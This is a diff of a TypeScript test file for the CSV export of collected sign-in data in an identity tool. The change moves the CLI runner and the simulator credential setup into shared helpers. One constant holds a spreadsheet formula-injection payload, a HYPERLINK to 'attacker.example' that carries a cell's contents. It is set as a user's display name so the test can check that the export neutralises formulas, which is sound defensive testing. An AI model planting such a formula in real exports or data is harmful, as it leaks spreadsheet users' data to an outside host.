@@ -3,10 +3,8 @@
 // back with its header, ISO times and neutralised formulas, windows filter, every mistake gets
 // its own error, the CLI writes a private file atomically, and the API streams to any role.
 import assert from 'node:assert/strict';
-import { spawn } from 'node:child_process';
 import { existsSync, readFileSync, statSync } from 'node:fs';
 import path from 'node:path';
-import { fileURLToPath } from 'node:url';
 import { after, before, describe, test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import type { Kysely } from 'kysely';
@@ -17,13 +15,13 @@ import { createSignInRepo } from '../src/store/signins.js';
 import { startApp, T0, type TestApp } from './helpers/app.js';
 import { DIALECTS, skipReason, tempDir } from './helpers/databases.js';
 import { ApiClient } from './helpers/http.js';
-import { startTestSimulator, type TestSimulator } from './helpers/simulator.js';
+import { runIdsight } from './helpers/cli.js';
+import { simulatedCredentials, startTestSimulator, type TestSimulator } from './helpers/simulator.js';
 
 const DAY = 86_400_000;
 const PW = 'correct horse battery staple';
 const ISO_TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;
 const FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")';
-const ROOT = fileURLToPath(new URL('..', import.meta.url));
 
 async function text(chunks: AsyncIterable<string>): Promise<string> {
   let out = '';
@@ -33,18 +31,7 @@ async function text(chunks: AsyncIterable<string>): Promise<string> {
 const lines = (s: string): string[] => (s === '' ? [] : s.replace(/\n$/, '').split('\n'));
 const csv = (s: string): string[][] => parse(s, { record_delimiter: '\r\n' }) as string[][];
 
-function idsight(args: string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
-  const base = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('IDSIGHT_') && k !== 'NODE_TEST_CONTEXT'));
-  return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, ['--import', 'tsx', 'src/cli/main.ts', ...args], { cwd: ROOT, env: { ...base, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
-    let stdout = '';
-    let stderr = '';
-    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
-    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
-    child.on('error', reject);
-    child.on('close', (code) => resolve({ code, stdout, stderr }));
-  });
-}
+const idsight = runIdsight;
 
 for (const dialect of DIALECTS) describe(`export of collected data (${dialect})`, { skip: skipReason(dialect) }, () => {
   let app: TestApp;
@@ -68,17 +55,7 @@ for (const dialect of DIALECTS) describe(`export of collected data (${dialect})`
     sim = await startTestSimulator({ throttle: 'off', users: 30, days: 7, clock: `fixed:${new Date(T0).toISOString()}` });
     app = await startApp(dialect);
     k = app.ctx.db.kysely as unknown as Kysely<any>;
-    const a = sim.app('contoso', 'readwrite');
-    const { integration } = await app.ctx.integrations.add({
-      name: 'Contoso',
-      tenantId: sim.tenant('contoso').id,
-      clientId: a.appId,
-      clientSecret: a.secrets[0]!.secretText,
-      cloud: 'custom',
-      authorityHost: sim.sim.url,
-      graphUrl: sim.sim.url,
-      caPem: sim.sim.ca,
-    });
+    const { integration } = await app.ctx.integrations.add({ name: 'Contoso', ...simulatedCredentials(sim, 'contoso') });
     id = integration.id;
     // A user whose display name a spreadsheet would run as a formula.
     const created = await sim.control('POST', '/directory/users', { tenant: 'contoso', displayName: FORMULA, userPrincipalName: `formula.user@${sim.tenant('contoso').initialDomain}` });
